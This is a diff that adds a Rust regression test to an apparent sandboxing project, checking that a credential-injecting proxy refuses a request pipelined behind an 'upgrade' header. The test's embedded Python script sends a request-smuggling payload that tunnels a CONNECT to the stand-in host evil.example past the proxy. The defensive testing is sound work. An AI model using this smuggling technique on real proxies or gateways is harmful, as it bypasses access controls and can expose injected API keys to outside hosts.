@@ -202,3 +202,65 @@ impl Drop for Segment {
         unsafe { libc::shmctl(self.0, libc::IPC_RMID, std::ptr::null_mut()) };
     }
 }
+
+/// The door's HTTP reading (docs/network.md, "The key stays outside") takes origin-form
+/// targets only, no `CONNECT`, no `TRACE`, and sets the upstream's `host`, so that an upstream
+/// that is a proxy or a gateway routing by host sends nothing on to a host the reviewer names.
+/// But after a head with an `upgrade` header the rest of the connection passes as bytes,
+/// whether or not the upstream switched protocols (here it answers `200`, as an API that
+/// ignores `upgrade` does): a second request pipelined behind it reaches the upstream
+/// unread, `CONNECT` to a host the reviewer names included. Expected: no byte of that second
+/// request reaches the upstream (it is refused, as a `CONNECT` alone is). Fails on main.
+#[test]
+fn the_door_passes_no_request_it_did_not_read_behind_an_upgrade_header() {
+    if !kernel_gives(sandbox::missing(), "KCAP_REQUIRE_SANDBOX")
+        || kcap_mcp_registry::launch::door::missing().is_some()
+    {
+        return;
+    }
+    let upstream = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = upstream.local_addr().unwrap().to_string();
+    let seen = std::thread::spawn(move || {
+        use std::io::{Read as _, Write as _};
+        let (mut conn, _) = upstream.accept().unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+        let mut got = Vec::new();
+        let mut buf = [0u8; 4096];
+        let mut answered = false;
+        while let Ok(n) = conn.read(&mut buf) {
+            if n == 0 {
+                break;
+            }
+            got.extend_from_slice(&buf[..n]);
+            if !answered {
+                let _ = conn.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok");
+                answered = true;
+            }
+            if String::from_utf8_lossy(&got).contains("evil.example") {
+                break;
+            }
+        }
+        String::from_utf8_lossy(&got).into_owned()
+    });
+    let door = Network::Door(vec![Endpoint::new(8080, addr).with_credential(
+        kcap_mcp_registry::launch::door::Credential::new("x-api-key", "daemon-key"),
+    )]);
+    let body = |_: &str| {
+        r#"/usr/bin/python3 -c '
+import socket, time
+s = socket.create_connection(("127.0.0.1", 8080), 5)
+s.sendall(b"GET /v1/models HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example:443\r\n\r\n")
+time.sleep(1)
+print("sent=yes")
+'
+"#
+        .to_owned()
+    };
+    let _ = run(&Options::default().with_network(door), body);
+    let seen = seen.join().unwrap();
+    assert!(seen.contains("x-api-key: daemon-key"), "{seen}");
+    assert!(
+        !seen.contains("CONNECT evil.example"),
+        "the upstream got a request the door did not read: {seen}"
+    );
+}
